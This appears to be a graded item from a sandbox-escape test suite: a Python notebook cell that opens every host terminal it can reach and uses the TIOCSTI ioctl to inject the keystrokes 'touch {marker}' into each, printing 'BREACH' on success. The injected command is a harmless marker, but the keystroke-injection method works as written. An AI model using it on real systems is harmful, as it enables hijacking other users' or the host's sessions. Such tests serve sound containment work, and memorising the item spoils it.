# %% [markdown]
# # Terminals of the host
# Opens each terminal that there is before it has one of its own, and types a command
# into it.
#
# - observe: reach
# - outcome: graded
# - points: 1

# %%
import fcntl
import glob
import os

for path in [
    *glob.glob("/dev/pts/[0-9]*"),
    *(f"/dev/pts/{n}" for n in range(20)),
    "/dev/tty",
    "/dev/console",
]:
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    print(f"BREACH: opened {path}")
    for letter in b"touch {marker}\n":
        try:
            fcntl.ioctl(terminal, 0x5412, bytes([letter]))
        except OSError as error:
            print(error)
            break
